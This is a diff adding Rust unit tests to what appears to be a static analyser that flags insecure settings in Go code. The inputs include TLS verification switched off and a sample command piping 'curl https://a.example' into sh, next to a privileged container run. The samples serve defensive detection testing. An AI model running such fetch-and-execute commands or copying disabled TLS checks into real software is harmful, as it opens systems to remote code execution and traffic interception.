@@ -201,3 +201,23 @@ fn a_call_that_says_nothing_is_told_where_it_is_handed_on_or_kept() {
         "argument insecure.NewCredentials(nothing) = true <insecure.NewCredentials()>",
     );
 }
+
+#[test]
+fn what_only_wraps_a_value_says_what_it_holds() {
+    for value in ["&wrapperspb.BoolValue{Value: true}", "wrapperspb.Bool(true)", "ptr.To(true)"] {
+        let text = format!("package a\nvar c = tls.Config{{InsecureSkipVerify: {value}}}\n");
+        let reading = reading(&text);
+        let setting =
+            reading.settings.iter().find(|setting| setting.names.iter().any(|(_, name)| &**name == "tls.Config(InsecureSkipVerify)"));
+        assert_eq!(setting.unwrap().value, Outcome::One(crate::value::Value::Bool(true)), "{value}");
+    }
+}
+
+#[test]
+fn words_of_commands_are_read() {
+    let all = said(
+        "package a\nfunc f() {\n\tc.exec(ctx, \"run\", \"--privileged\", image)\n\texec.Command(\"sh\", \"-c\", \"curl https://a.example | sh\")\n}\n",
+    );
+    assert!(all.iter().any(|line| line.starts_with("--privileged")), "{all:?}");
+    assert!(all.iter().any(|line| line.starts_with("curl =")), "{all:?}");
+}
